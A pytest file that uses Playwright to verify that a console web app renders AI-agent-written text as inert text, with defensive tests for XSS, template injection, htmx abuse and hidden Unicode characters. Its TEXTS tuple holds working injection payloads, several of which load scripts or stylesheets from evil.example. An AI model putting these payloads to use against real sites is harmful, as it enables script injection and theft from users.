"""What agents write is text, on every page of a real browser: nothing runs, nothing is fetched or disguised."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from console_world import World
from groundstop.client import Client
from groundstop.clock import Clock
from playwright.sync_api import Browser, Page, Request

Enter = Callable[..., Page]
EVIL = "http://evil.example"
TEXTS = (
    "<script>window.owned = 'script'</script>",
    "<img src=x onerror=\"window.owned='onerror'\"><svg onload=\"window.owned='svg'\"><animate onbegin=alert(1)></svg>",
    "\"'><script src=http://evil.example/x.js></script>",
    "</textarea></title></style></script></pre></svg><script>window.owned='closed'</script>",
    "<a href=\"javascript:window.owned='link'\">here</a> javascript:window.owned='bare'",
    "{{ 7 * 1910000191 }} {% import os %} ${7*1910000191} <%= 7*1910000191 %> #{7*1910000191} {{ config }}",
    '<div hx-get="/people" hx-trigger="load" hx-on:htmx:load="window.owned=\'htmx\'" data-hx-get="http://evil.example/hx"></div>',
    '" hx-get="http://evil.example/attr" hx-trigger="load" onfocus="window.owned=\'attr\'" autofocus x="',
    "' onmouseover='window.owned=1' style='background:url(http://evil.example/css)",
    "<style>@import 'http://evil.example/css'; body { background: url(http://evil.example/bg) }</style>",
    "<link rel=stylesheet href=http://evil.example/l.css><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=csrf><button formaction=http://evil.example>Approve</button></form>",
    "<iframe src=http://evil.example srcdoc='<script>parent.owned=1</script>'></iframe><object data=http://evil.example>",
    "<base href=http://evil.example/><math><mtext><img src=http://evil.example/m></mtext></math>",
    "\u202egnp.exe\u202c pay \u2066to\u2069 \u200bzero\u200dwidth \ufeff A\u0301\u0301\u0301",
    "W" * 3_000,
    "&lt;script&gt;window.owned='twice'&lt;/script&gt; &#60;img src=x onerror=window.owned=1&#62;",
)
SEEN_S, CASES_MIN = 40.0, 8
READY = 'body[data-link="live"]'


async def opened(client: Client) -> list[str]:
    """The cases that these calls have come to: screens stop some of them before any person is asked."""
    clock = Clock()
    deadline, found = clock.monotonic() + SEEN_S, list[dict[str, Any]]()
    while len(found) < CASES_MIN:
        assert clock.monotonic() < deadline, len(found)
        await clock.sleep(0.2)
        found = await client.cases(limit=100, agent="scripter")
    return [str(case["case"]) for case in found]


@pytest.fixture(scope="module")
def pages(world: World) -> list[str]:
    """Every page that shows what agents and people wrote, with all of TEXTS in all places that take them."""
    calls: list[dict[str, Any]] = []
    for number, text in enumerate(TEXTS):
        about = {
            "task": f"scripts-{number % 3}",
            "user": "u",
            "reasoning": text,
            "assumptions": [text],
            "confidence": 0.9,
        }
        calls.append(about | {"tool": "money.send", "arguments": {"to": text, "amount": 1, "memo": text}})
        calls.append(about | {"tool": "note.write", "arguments": {"text": text}})
    intents = world.submit(*calls, agent="scripter")
    cases = world.ask(opened)

    async def more(olga: Client) -> list[str]:
        for text in TEXTS[:3]:
            await olga.feedback(intents[1], "up", text) if text == TEXTS[0] else None
        grant = await olga.grant("scripter", "mail.send", note=TEXTS[1], condition='"<script>" != ""')
        asked = await olga.handoff("scripts-0", TEXTS[0] + TEXTS[7], agent="scripter")
        await olga.deny(cases[1], TEXTS[2] + TEXTS[6])
        return [f"/grants/{grant['grant']}", f"/cases/{asked['case']}"]

    made = world.ask(more)
    shown = [f"/cases/{case}" for case in cases] + [f"/intents/{intent}" for intent in intents[:4]]
    forms = [f"/cases/{cases[0]}/edit", f"/cases/{cases[5]}/edit", f"/cases/{cases[2]}/alike"]
    lists = [
        "/inbox",
        "/inbox?agent=scripter",
        "/intents",
        "/tasks",
        "/grants",
        "/controls",
        "/metrics?range=1h",
        "/policy",
    ]
    tasks = [f"/tasks/acme/scripts-{number}" for number in range(3)]
    typed = [
        f"{page}?{name}={text}"
        for page, name in (("/intents", "q"), ("/inbox", "text"), ("/tasks", "q"))
        for text in (TEXTS[7], TEXTS[0])
    ]
    return [*lists, *tasks, *made, *forms, *shown, *typed]


@pytest.fixture
def watched(world: World, enter: Enter) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what happened on it that must not: dialogs, foreign requests, broken rules of its policy, errors."""
    page, found = enter("bert", "/inbox?agent=nobody"), []
    page.on("dialog", lambda dialog: (found.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: found.append(f"error {error}"))
    page.on(
        "console", lambda said: found.append(f"{said.type}: {said.text}") if "Content Security" in said.text else None
    )

    def on_request(request: Request) -> None:
        if not request.url.startswith((world.console_url, "data:")):
            found.append(f"request {request.url}")

    page.on("request", on_request)
    yield page, found


def test_nothing_that_an_agent_wrote_runs_or_fetches_anything(
    watched: tuple[Page, list[str]], pages: list[str]
) -> None:
    page, found = watched
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for where in pages:
        page.goto(where)
        page.wait_for_selector(READY)
        for summary in page.locator("summary").all()[:3]:
            summary.click()
        state = page.evaluate(
            "() => ({owned: window.owned ?? null, foreign: document.querySelectorAll("
            "'main script, main iframe, main object, main base, main style, main link, main meta, main [onerror],"
            " main [onload], main [onfocus], main [onmouseover], main [style], main a[href^=javascript],"
            " main [hx-get*=people], main [data-hx-get], main form[action^=http], main [formaction], main img').length,"
            " wide: document.documentElement.scrollWidth - innerWidth, text: document.body.innerText})"
        )
        assert state["owned"] is None, where
        assert state["foreign"] == 0, where
        assert state["wide"] <= 0, (where, state["wide"])
        assert str(7 * 1910000191) not in state["text"], where
    assert found == []
    assert not any("/people" in url for url in asked)


def test_an_attack_is_shown_as_the_text_it_is(watched: tuple[Page, list[str]], pages: list[str], world: World) -> None:
    """To be decided about it has to be seen: as text, with what would change its direction made visible."""
    page, found = watched
    (intent,) = world.submit(
        {"tool": "money.send", "arguments": {"to": TEXTS[14], "amount": 1, "memo": TEXTS[0]}, "confidence": 0.9},
        agent="shown",
    )
    page.goto(f"/cases/{world.case_of(intent)}")
    text = page.locator("main").inner_text()
    assert TEXTS[0] in text
    assert not any(mark in text for mark in "\u202e\u2066\u200b\ufeff"), "a character that nobody sees"
    assert found == []


def test_the_live_refresh_swaps_text_in_as_text(watched: tuple[Page, list[str]], world: World) -> None:
    page, found = watched
    page.goto("/inbox?agent=late-scripter")
    page.wait_for_selector(READY)
    world.submit(
        {"tool": "money.send", "arguments": {"to": TEXTS[1], "amount": 1}, "confidence": 0.9}, agent="late-scripter"
    )
    page.wait_for_selector("[data-case]")
    assert page.evaluate("window.owned ?? null") is None
    assert found == []


def test_the_policy_of_the_page_would_stop_what_got_through(watched: tuple[Page, list[str]], browser: Browser) -> None:
    """Put in by force: an inline handler, an inline script and a foreign one are stopped by the browser."""
    page, found = watched
    page.goto("/intents")
    page.wait_for_selector(READY)
    page.evaluate(
        "() => { const main = document.querySelector('main');"
        " main.insertAdjacentHTML('beforeend', `<img src=x onerror=\"window.owned='forced'\">`);"
        " const script = document.createElement('script'); script.textContent = \"window.owned='inline'\";"
        " main.append(script);"
        " const away = document.createElement('script'); away.src = 'http://evil.example/x.js'; main.append(away); }"
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.owned ?? null") is None
    assert any("Content Security" in one for one in found)
